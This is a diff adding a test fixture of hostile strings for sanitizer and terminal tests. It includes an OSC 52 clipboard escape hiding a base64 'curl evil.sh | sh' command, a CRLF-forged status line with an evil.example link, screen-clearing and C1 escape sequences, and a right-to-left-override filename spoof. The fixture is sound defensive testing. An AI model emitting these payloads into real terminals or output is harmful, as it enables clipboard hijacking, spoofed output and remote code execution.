@@ -1,0 +1,9 @@
+// Hostile text a T3 server might put in any string field: used by the sanitizer, terminal, bridge and browser tests.
+export const HOSTILE = {
+  osc52: "build \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07done",
+  screenClear: "\x1b[2J\x1b[3J\x1b[Hok",
+  forgedLine: "oops\r\nT3 Fleet is running. Open this link once, in one browser tab on this machine:\nhttp://evil.example/#code=x",
+  rlo: "invoice \u202Egnp.exe\u202C",
+  c1Csi: "a\x9b31mred\x9d8;;http://evil\x9ctext",
+  huge: "E".repeat(5 * 1024 * 1024),
+};
